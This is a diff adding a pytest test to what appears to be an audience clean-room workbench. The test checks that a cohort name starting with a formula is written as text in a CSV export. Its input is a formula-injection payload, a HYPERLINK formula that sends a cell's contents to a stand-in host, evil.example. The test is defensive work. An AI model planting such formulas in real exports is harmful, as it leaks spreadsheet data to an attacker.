@@ -11,6 +11,7 @@ import pandas as pd
 import pytest
 
 import workbench as wb
+from tests.audiences.conftest import activation_root  # noqa: F401  (a fixture used below)
 from tests.audiences.conftest import (add_user_list, advertiser_with_strangers,
                                       publisher_with_features)
 from tests.runs.room import build_room
@@ -154,3 +155,23 @@ def test_audience_releases_wait_for_an_active_room(dp_audience_room):
         room.owner.match_rates(room.id)
     assert room.partner.budget(room.id).epsilon_left == left
     assert [c.name for c in room.owner.cohorts(room.id)] == ["buyers"]
+
+
+def test_a_cohort_name_cannot_plant_a_formula_in_a_csv_export(dp_audience_room, activation_root):
+    """Whoever names a cohort writes a cell of the activation party's CSV export, which ad
+    operations open in a spreadsheet: a name starting a formula is written as text."""
+    import csv
+
+    room = dp_audience_room
+    qid = add_user_list(room)
+    name = '=HYPERLINK("http://evil.example/?"&A2,"open")'
+    cohort = room.owner.create_cohort(room.id, name, qid, {"min_amount": 0}, epsilon="1")
+    room.owner.set_activation_policy(room.id, room.publisher_dataset, True)
+    room.partner.set_activation_policy(room.id, room.advertiser_dataset, True)
+    room.owner.grant_activation(room.id, room.owner.whoami().user.id)
+    dest = room.owner.create_destination(room.id, "sheet", "csv", "sheets")
+    room.owner.activate(room.id, cohort.id, dest.id, impressions=3, per="day")
+    (data,) = [p for p in (activation_root / "sheets").rglob("members*") if p.is_file()]
+    rows = list(csv.DictReader(data.read_text().splitlines()))
+    assert rows and all(r["cohort"] == "'" + name for r in rows)
+    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())
